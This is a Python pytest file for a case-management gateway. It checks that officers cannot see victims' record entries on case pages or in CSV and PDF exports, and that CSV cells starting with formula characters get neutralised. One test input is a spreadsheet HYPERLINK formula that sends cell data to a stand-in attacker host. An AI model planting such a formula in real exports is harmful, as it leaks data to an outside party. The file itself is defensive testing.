"""The case record as offender-facing staff see it: nothing about a victim's activity, on the page or
in its CSV and PDF exports; and CSV cells that a spreadsheet would run as formulas (SQLite and PostgreSQL)."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import shutil
import uuid
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from gateway.api.intake import insert_notifications
from gateway.crypto import Vault
from gateway.csv_safe import safe_cell, write_csv
from gateway.domain import Channel, KeyType, RecordKind
from gateway.outbound import prepare_notification
from gateway.record import append_entry
from gateway.template_store import TemplateStore
from gateway.templating import Renderer
from gateway.web.compose_form import FREE_TEXT
from tests.factories import make_service
from tests.web.cases import CaseUnderTest, add_participant, make_case, set_service_kind, unique_phone
from tests.web.chat import add_conversation
from tests.web.conftest import StaffFactory
from tests.web.staff import csrf_from, sign_in

Client = Any


async def victim_record(
    sessions: async_sessionmaker[AsyncSession], vault: Vault, service_id: uuid.UUID, officer_id: uuid.UUID
) -> tuple[CaseUnderTest, dict[str, str]]:
    """A case with a client and a victim, and record entries about each, written as the gateway writes them."""
    case = await make_case(sessions, vault, service_id, name="Casey Client", assigned=officer_id)
    vera = await add_participant(sessions, vault, case, service_id, "Vera Victim", "victim")
    from_vera = await add_conversation(sessions, vault, service_id, unique_phone(), "Is he out?", person_id=vera)
    from_casey = await add_conversation(
        sessions, vault, service_id, case.phone, "Running late", person_id=case.person_id
    )
    template = await TemplateStore(sessions).get(service_id, FREE_TEXT[Channel.SMS])
    to_vera = prepare_notification(
        vault=vault,
        renderer=Renderer(),
        template=template,
        channel=Channel.SMS,
        recipient=unique_phone(),
        personalisation={"message": "Release date"},
        service_id=service_id,
        key_type=KeyType.LIVE,
        person_id=vera,
        case_id=case.case_id,
    )
    async with sessions() as db:
        await insert_notifications(await db.connection(), [to_vera.row])
        await db.commit()
    summaries = {
        "victim_in": f"Text message received; case_handler: filed in conversation {from_vera.id}",
        "victim_out": "Staff sent a sms message from the conversation (to the victim)",
        "victim_link": "Staff linked a sender to Vera Victim",
        "client_in": f"Text message received; case_handler: filed in conversation {from_casey.id}",
        "note": "Home visit done",
    }
    entry = append_entry
    await entry(
        sessions,
        case.case_id,
        RecordKind.INBOUND,
        "gateway:inbound",
        summaries["victim_in"],
        inbound_id=from_vera.inbound_id,
    )
    await entry(
        sessions,
        case.case_id,
        RecordKind.OUTBOUND,
        "staff:x",
        summaries["victim_out"],
        notification_id=to_vera.row["id"],
    )
    await entry(
        sessions, case.case_id, RecordKind.CONTACT, "staff:x", summaries["victim_link"], {"person_id": str(vera)}
    )
    await entry(
        sessions,
        case.case_id,
        RecordKind.INBOUND,
        "gateway:inbound",
        summaries["client_in"],
        inbound_id=from_casey.inbound_id,
    )
    await entry(sessions, case.case_id, RecordKind.NOTE, "staff:x", summaries["note"])
    return case, summaries


VICTIM_ENTRIES = ("victim_in", "victim_out", "victim_link")


def record_seqs(page: str) -> list[int]:
    """The entry numbers in the case page's record table, newest first."""
    table = page.split('data-testid="record"', 1)[1].split("</table>", 1)[0]
    return [int(n) for n in re.findall(r'<tr data-kind="[a-z_]+">\s*<td>(\d+)</td>', table)]


async def test_an_officer_sees_nothing_of_a_victims_activity(
    make_client: Any,
    staff_factory: StaffFactory,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    tmp_path: Path,
) -> None:
    unit = await make_service(sessions, vault)
    await set_service_kind(sessions, unit.id, "victim_services")
    officer = await staff_factory(unit.id, roles=("officer",))
    case, summaries = await victim_record(sessions, vault, unit.id, officer.id)
    client = await make_client()
    await sign_in(client, officer)

    page = await (await client.get(f"/cases/{case.ref}")).text()
    # the page reads in plain words (issue 14), so entries are found by their number: 1-3 are the victim's
    assert record_seqs(page) == [5, 4] and "Vera" not in page and "Home visit done" in page
    inbound_only = await (await client.get(f"/cases/{case.ref}", params={"kind": "inbound"})).text()
    assert record_seqs(inbound_only) == [4]

    token = await csrf_from(client, f"/cases/{case.ref}")
    exported = await client.post(f"/cases/{case.ref}/export", data={"format": "csv", "csrf_token": token})
    rows = list(csv.DictReader(io.StringIO(await exported.text())))
    assert [r["summary"] for r in rows] == [summaries["client_in"], summaries["note"], "Record exported as CSV"]

    try:
        import weasyprint  # noqa: F401
    except OSError:
        pytest.skip("WeasyPrint cannot load Pango here")
    pdf = await client.post(f"/cases/{case.ref}/export", data={"format": "pdf", "csrf_token": token})
    assert pdf.status == 200
    if shutil.which("pdftotext"):
        path = tmp_path / "record.pdf"
        path.write_bytes(await pdf.read())
        process = await asyncio.create_subprocess_exec("pdftotext", str(path), "-", stdout=asyncio.subprocess.PIPE)
        text = " ".join((await process.communicate())[0].decode().split())
        assert "3 entries about victims are not included" in text
        assert "Home visit done" in text and "Vera" not in text and "victim)" not in text


async def test_an_advocate_sees_the_whole_record(
    make_client: Any, staff_factory: StaffFactory, sessions: async_sessionmaker[AsyncSession], vault: Vault
) -> None:
    unit = await make_service(sessions, vault)
    await set_service_kind(sessions, unit.id, "victim_services")
    advocate = await staff_factory(unit.id, roles=("victim_advocate",))
    case, _summaries = await victim_record(sessions, vault, unit.id, advocate.id)
    client = await make_client()
    await sign_in(client, advocate)
    page = await (await client.get(f"/cases/{case.ref}")).text()
    assert record_seqs(page) == [5, 4, 3, 2, 1] and "Vera Victim" in page and "Home visit done" in page
    token = await csrf_from(client, f"/cases/{case.ref}")
    exported = await client.post(f"/cases/{case.ref}/export", data={"format": "csv", "csrf_token": token})
    assert len(list(csv.DictReader(io.StringIO(await exported.text())))) == 6


async def test_csv_cells_are_never_formulas(
    make_client: Any,
    staff_factory: StaffFactory,
    sessions: async_sessionmaker[AsyncSession],
    vault: Vault,
    service: Any,
) -> None:
    officer = await staff_factory(service.id)
    case = await make_case(sessions, vault, service.id, assigned=officer.id)
    client = await make_client()
    await sign_in(client, officer)
    notes = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100 rang", "-2+3", "@SUM(A1:A9)", "ok"]
    for note in notes:
        token = await csrf_from(client, f"/cases/{case.ref}")
        assert (await client.post(f"/cases/{case.ref}/notes", data={"note": note, "csrf_token": token})).status == 200
    token = await csrf_from(client, f"/cases/{case.ref}")
    exported = await client.post(f"/cases/{case.ref}/export", data={"format": "csv", "csrf_token": token})
    summaries = [r["summary"] for r in csv.DictReader(io.StringIO(await exported.text()))]
    assert summaries[:5] == ["'" + n for n in notes[:4]] + ["ok"]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert safe_cell(value) == "'" + value
    [cell] = next(csv.reader(io.StringIO(write_csv(["h"], [[value]]).split("\r\n", 1)[1])))
    assert cell.startswith("'")


def test_numbers_and_plain_text_are_unchanged() -> None:
    assert [safe_cell(v) for v in (-5, 3.5, "a=b", "", "Case 1")] == [-5, 3.5, "a=b", "", "Case 1"]
    assert write_csv(["seq", "note"], [[-1, "x"]]) == "seq,note\r\n-1,x\r\n"
